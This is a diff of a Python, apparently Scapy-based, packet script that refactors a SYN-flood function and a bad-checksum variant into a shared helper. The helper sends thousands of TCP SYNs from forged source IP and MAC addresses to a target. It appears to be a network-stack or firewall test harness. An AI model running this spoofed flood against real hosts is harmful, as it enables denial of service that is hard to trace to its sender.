@@ -235,32 +235,38 @@ def target_mac(target):
     return p.tmac
 
 
-def synflood(target, port):
+def syns(target, port, n, first, naddrs, mangle=None):
+    """N SYNs to TARGET:PORT from NADDRS forged addresses from FIRST on,
+    each from a random port with a random ISN, MANGLE applied to its IP
+    packet first (its checksums computed)."""
     tmac = target_mac(target)
     sock = conf.L2socket(iface=IFACE)
-    addrs = forged(20, 200)
-    for i in range(20000):
+    addrs = forged(first, naddrs)
+    for i in range(n):
         ip = addrs[i % len(addrs)]
-        sock.send(Ether(src=mac_of(ip), dst=tmac) / IP(src=ip, dst=target) /
-                  TCP(sport=random.randint(1024, 65535), dport=port, flags="S",
-                      seq=random.getrandbits(32), options=[("MSS", 1460)]))
-    print("20000 SYNs from %d forged addresses" % len(addrs))
+        syn = IP(src=ip, dst=target) / TCP(
+            sport=random.randint(1024, 65535), dport=port, flags="S",
+            seq=random.getrandbits(32), options=[("MSS", 1460)])
+        if mangle:
+            syn = mangle(IP(raw(syn)))
+        sock.send(Ether(src=mac_of(ip), dst=tmac) / syn)
+
+
+def synflood(target, port):
+    syns(target, port, 20000, 20, 200)
+    print("20000 SYNs from 200 forged addresses")
+
+
+def bad_csum(syn):
+    """A bit of the TCP checksum flipped: 0x0000 and 0xffff, which are the
+    same sum, never meet."""
+    syn[TCP].chksum ^= 0x0100
+    return syn
 
 
 def badcsum(target, port):
-    tmac = target_mac(target)
-    sock = conf.L2socket(iface=IFACE)
-    addrs = forged(20, 50)
-    for i in range(1000):
-        ip = addrs[i % len(addrs)]
-        syn = IP(raw(IP(src=ip, dst=target) /
-                     TCP(sport=random.randint(1024, 65535), dport=port,
-                         flags="S", seq=random.getrandbits(32),
-                         options=[("MSS", 1460)])))
-        # A bit flipped: 0x0000 and 0xffff, the same sum, never meet.
-        syn[TCP].chksum ^= 0x0100
-        sock.send(Ether(src=mac_of(ip), dst=tmac) / syn)
-    print("1000 SYNs with a bad checksum from %d forged addresses" % len(addrs))
+    syns(target, port, 1000, 20, 50, bad_csum)
+    print("1000 SYNs with a bad checksum from 50 forged addresses")
 
 
 def ooo(target, port):
